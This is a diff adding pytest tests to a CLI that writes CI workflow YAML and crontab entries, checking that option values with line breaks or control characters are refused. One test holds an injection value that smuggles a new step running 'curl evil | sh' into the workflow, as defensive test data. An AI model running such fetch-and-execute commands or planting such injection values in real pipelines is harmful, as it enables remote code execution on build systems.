@@ -336,6 +336,21 @@ def test_init_ci_refuses_what_would_break_the_workflow(tmp_path: Path, args: lis
     assert not (tmp_path / "w.yml").exists()
 
 
+@pytest.mark.parametrize("option", ["--service", "--exclude-service", "--operation", "--source", "--state", "--out", "--cache", "--since", "--python", "--workdir"])
+@pytest.mark.parametrize("mode", [[], ["--on", "pull-request"], ["--cron"]])
+@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\x00"])
+def test_a_value_cannot_break_out_of_its_line(tmp_path: Path, option: str, mode: list[str], breaker: str) -> None:
+    # a line break in a value ended the `run: |` script: what followed was YAML (a new
+    # step, "run: curl evil | sh"), or in a crontab a new entry
+    value = f"s3{breaker}      - name: evil{breaker}        run: curl evil | sh"
+    out = tmp_path / "w.yml"
+    result = CliRunner().invoke(app, ["init-ci", "-o", str(out), "--install", ".", *mode, option, value])
+    assert result.exit_code == 2, result.output
+    (line,) = result.stderr.splitlines()
+    assert line.startswith(f"specdiff: error: {option}: ") and "line break or control character" in line
+    assert not out.exists()
+
+
 def test_specdiff_by_name_is_refused_with_the_way_out(tmp_path: Path) -> None:
     result = CliRunner().invoke(app, ["init-ci", "-o", str(tmp_path / "w.yml"), "--install", "specdiff"])
     assert "not published on the package index" in result.stderr and "git+https://" in result.stderr
@@ -394,3 +409,12 @@ def test_docs_show_the_crontab_init_ci_writes() -> None:
     docs = (Path(__file__).resolve().parents[2] / "docs" / "ci.md").read_text()
     (entry,) = [line for line in render_crontab(CiSettings()).splitlines() if line.startswith("17 6 ")]
     assert entry in docs.splitlines()
+
+
+def test_every_text_setting_is_checked_for_line_breaks() -> None:
+    import dataclasses
+
+    from specdiff.job.workflow import _OPTIONS
+
+    texts = {f.name for f in dataclasses.fields(CiSettings) if not isinstance(getattr(CiSettings(), f.name), (bool, int))}
+    assert texts == set(_OPTIONS)
